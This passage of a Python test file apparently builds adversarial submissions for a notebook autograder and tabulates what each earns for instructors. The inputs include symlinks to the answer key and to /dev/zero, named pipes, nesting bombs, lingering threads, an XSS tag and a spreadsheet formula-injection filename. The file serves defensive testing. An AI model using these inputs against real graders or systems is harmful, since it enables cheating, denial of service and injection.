            time.sleep(0.5)
            end = time.monotonic() + 300
            while time.monotonic() < end:
                for folder in ("/tmp", "/var/tmp", "/dev/shm", "/run/lock"):
                    try:
                        open(folder + "/{LEFT}", "w").close()
                    except OSError:
                        pass
                time.sleep(0.2)
        os._exit(0)
"""


@cell(fast=False)
def threads_left_behind():
    """A cell leaves threads, handlers at exit and a tracer behind."""
    return """
import atexit, sys, threading, time
atexit.register(lambda: time.sleep(1000))
for _ in range(8):
    threading.Thread(target=lambda: time.sleep(1000), daemon=False).start()
threading.settrace(lambda *args: None)
"""


@cell(fast=False)
def tracer():
    """A cell watches every line of the worker's code from then on."""
    return "import sys\nsys.settrace(lambda *args: None)\nsys.setprofile(lambda *args: None)"


@cell()
def threads_of_torch():
    """Honest: a cell computes with many threads first, which deadlocks whoever forks carelessly."""
    return """
import torch
torch.set_num_threads(8)
weights = torch.randn(300, 300, requires_grad=True)
for _ in range(5):
    (weights @ weights).sum().backward()
torch.set_num_threads(8)
"""


@cell()
def state_of_torch():
    """Honest: a cell changes what PyTorch does by default."""
    return "import torch\ntorch.set_default_dtype(torch.float64)\ntorch.set_grad_enabled(False)\ntorch.manual_seed(1)"


@cell(fast=False)
def device_of_torch():
    """Honest: a cell asks for another device by default, as on Colab."""
    return "import torch\ntorch.set_default_device('meta')\ntorch.set_default_dtype(torch.bfloat16)"


begin("Files")


@file(fast=True)
def link_to_the_key(folder, name):
    """A link to the key in place of a notebook."""
    (folder / f"{name}.ipynb").symlink_to(folder.parent / "private" / "attention.key.json")


@file()
def link_to_another_submission(folder, name):
    """A student's folder in which the notebook is a link to another student's."""
    (folder / name).mkdir()
    (folder / name / "attention.ipynb").symlink_to(folder / "other.ipynb")


@file()
def named_pipe(folder, name):
    """A named pipe, which blocks whoever opens it."""
    os.mkfifo(folder / f"{name}.ipynb")


@file()
def device(folder, name):
    """A link to a device without end."""
    (folder / f"{name}.ipynb").symlink_to("/dev/zero")


@file()
def empty(folder, name):
    """A file of no bytes."""
    (folder / f"{name}.ipynb").write_bytes(b"")


@file()
def truncated(folder, name):
    """Half a notebook."""
    (folder / f"{name}.ipynb").write_bytes(notebooks.data(notebook())[:5000])


@file()
def web_page(folder, name):
    """A web page, as of a log-in."""
    (folder / f"{name}.ipynb").write_text("<!DOCTYPE html><html><script>alert('CANARY')</script></html>")


@file()
def portable_document(folder, name):
    """A PDF file."""
    (folder / f"{name}.ipynb").write_bytes(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + bytes(1000))


@file()
def archive(folder, name):
    """A zip archive."""
    (folder / f"{name}.ipynb").write_bytes(b"PK\x03\x04" + bytes(1000))


@file()
def thirty_megabytes(folder, name):
    """A notebook with outputs of 30 MB."""
    made = notebooks.add(notebook(), "#" + "x" * 30_000_000)
    write(folder, name, made)


@file()
def ten_million_brackets(folder, name):
    """Lists in lists, ten million deep."""
    (folder / f"{name}.ipynb").write_bytes(b"[" * (10 * 2**20 - 1))


@file()
def another_notebook(folder, name):
    """A notebook that has nothing to do with the assignment."""
    made = notebook() | {"cells": []}
    write(folder, name, notebooks.add(made, "print('CANARY')"))


@file(status=GRADED)
def name_as_a_formula(folder, name):
    """A name that a spreadsheet takes for a formula, and a browser for a script."""
    write(folder, f"=cmd|' -C calc'!A0 <script>alert(1) {name}", notebook())


@file(status=GRADED)
def name_in_many_scripts(folder, name):
    """A name with line breaks, right-to-left marks, and letters beyond the first plane."""
    write(folder, f"\u202eZoë\n名前\U0001f600\x1b[31m {name}", notebook())


@file(status=GRADED, fast=False)
def name_that_is_no_text(folder, name):
    """A name that is not Unicode."""
    path = os.fsencode(folder) + b"/\xff\xfe " + name.encode() + b".ipynb"
    with open(path, "wb") as file:
        file.write(notebooks.data(notebook()))


def outcome(attack: Attack) -> str:
    """What the attack earns, in words for instructors."""
    if attack.status != GRADED:
        return "no mark; a person has to look at it"
    if not attack.earns:
        return "full marks, since its answers are right"
    if len(attack.earns) == len(QUESTIONS):
        return "nothing" if attack.earns == NOTHING else "what is left of its own answers"
    [(points, _)] = attack.earns.values()
    if points == 0.0:
        return "nothing for the answer that attacks"
    return "no more than its answer is worth" if points == ANY else "the part that is right"


def table() -> str:
    """The attacks as a page in Markdown, which says of each what it tries and what it earns, and shows no code."""
    lines = ["| what students' code tries | outcome |", "| --- | --- |"]
    lines += [f"| {name} | blocked, or the sandbox is not used |" for name in attacks]
    for kind in KINDS:
        lines += ["", f"```{{dropdown}} {kind}", "| what the submission tries | what it earns |", "| --- | --- |"]
        chosen = [attack for attack in CORPUS.values() if attack.kind == kind]
        lines += [f"| {' '.join(attack.description.split())} | {outcome(attack)} |" for attack in chosen]
        lines += ["```"]
    return "\n".join(lines)


if __name__ == "__main__":
    page = ROOT / "book" / "instructors.md"
    before, begins, rest = page.read_text(encoding="utf-8").partition(BEGIN)
    page.write_text(f"{before}{begins}\n{table()}\n{END}{rest.partition(END)[2]}", encoding="utf-8")
